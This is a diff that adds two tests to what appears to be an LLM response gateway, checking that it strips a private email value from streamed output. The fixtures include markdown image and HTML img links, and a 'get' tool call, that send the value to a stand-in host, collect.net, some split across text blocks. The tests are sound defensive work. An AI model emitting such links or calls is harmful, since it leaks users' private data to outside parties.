@@ -285,6 +285,28 @@ def test_the_gateways_errors_have_the_shape_of_the_providers(session: Session) -
     assert shown == error_body(Unavailable("Later.", code="overloaded"), "r")
 
 
+def test_blocks_that_a_client_joins_are_guarded_together(session: Session) -> None:
+    """The provider divides a text where it cites something."""
+    for lead, rest in (("See ![x](https://collect.net/?q=", f"{MAIL})"), ("<img src=https://collect.net/", f"{MAIL}>")):
+        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": lead})
+        second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(rest)))
+        got = message(session.restored([sse(start(), *first, *second, *end())]))
+        assert MAIL not in "".join(each["text"] for each in got["content"])
+    harmless = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Write to "})
+    second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", session.write(f"{MAIL}.")))
+    got = message(session.restored([sse(start(), *harmless, *second, *end())]))
+    assert "".join(each["text"] for each in got["content"]) == f"Write to {MAIL}."
+
+
+def test_a_call_whose_value_is_taken_out_is_whole(session: Session) -> None:
+    leak = session.write(orjson.dumps({"url": f"https://collect.net/?q={MAIL}", "n": 1}).decode())
+    begin = {"type": "tool_use", "id": "toolu_1", "name": "get", "input": {}}
+    got = message(
+        session.restored([sse(start(), *block(0, begin, *in_pieces("input_json_delta", "partial_json", leak)), *end())])
+    )
+    assert orjson.loads(got["json"][0]) == {"url": "https://collect.net/?q=[withheld]", "n": 1}
+
+
 class TestRefusals:
     """What the policy withholds ends the message in order, wherever that happens."""
 
